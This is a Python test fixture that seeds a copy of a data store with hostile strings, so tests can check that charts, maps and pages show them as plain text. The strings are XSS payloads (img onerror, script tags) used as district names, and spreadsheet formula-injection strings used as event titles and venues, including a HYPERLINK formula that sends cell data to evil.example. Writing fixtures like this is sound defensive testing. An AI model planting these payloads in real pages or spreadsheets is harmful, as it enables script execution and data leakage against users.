"""A copy of the embedded store whose data strings are hostile: area names that are HTML, event titles and
venues that a spreadsheet would run as formulas. Shared by the tests that every surface draws them as text
(tests/public/test_hostile_text.py, tests/maps, tests/pages)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd

from lib.public import figures as public_figures
from lib.store.connection import connect

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/","District")'  # a name a spreadsheet would run
NAMES = (IMG, SCRIPT, FORMULA_NAME)
# OWASP CSV Injection's openings, and two that a naive "is it a number" check lets through.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")
VENUES = ("=1+1", "@cmd", "+SUM(1)", "-1+2", "\t=x", "\r=x")


def make(source: Path, path: Path) -> dict:
    """Copy the store at ``source`` to ``path`` and make it hostile; returns what was changed.

    The three districts with most incidents of the default dataset get :data:`NAMES` as names (so they
    are in every chart and table); six events in one of them start in the coming days with
    :data:`FORMULAS` as titles and :data:`VENUES` as venues (so they are "upcoming" on every surface).
    """
    shutil.copy(source, path)
    store = connect(str(path))
    try:
        dataset = public_figures.default_dataset(store)
        top = store.query(
            "SELECT lvl_district AS code, count(*) AS n FROM incidents WHERE dataset = :d AND lvl_district IS NOT NULL "
            "GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 3",
            {"d": dataset},
        )
        codes = [str(c) for c in top["code"]]
        for code, name in zip(codes, NAMES, strict=True):
            store.execute(
                "UPDATE boundaries SET name = :n WHERE level = 'district' AND code = :c", {"n": name, "c": code}
            )
            if "public_release_areas" in store.tables():  # the release's copy of the names, as if loaded so
                store.execute(
                    "UPDATE public_release_areas SET name = :n WHERE level = 'district' AND area = :c",
                    {"n": name, "c": code},
                )
        events = store.query(
            "SELECT event_id, dataset FROM events WHERE lvl_district = :c ORDER BY event_id LIMIT :k",
            {"c": codes[0], "k": len(FORMULAS)},
        )
        start = pd.Timestamp.now().normalize() + pd.Timedelta(days=2, hours=18)
        for i, (event_id, title, venue) in enumerate(zip(events["event_id"], FORMULAS, VENUES, strict=True)):
            at = start + pd.Timedelta(days=i)
            store.execute(
                "UPDATE events SET title = :t, title_norm = lower(:t), location = :v, starts_at = :s, ends_at = :e "
                "WHERE event_id = :id",
                {
                    "t": title,
                    "v": venue,
                    "s": at.to_pydatetime(),
                    "e": (at + pd.Timedelta(hours=1)).to_pydatetime(),
                    "id": event_id,
                },
            )
    finally:
        store.close()
    return {"dataset": dataset, "codes": codes, "events": list(events["event_id"])}
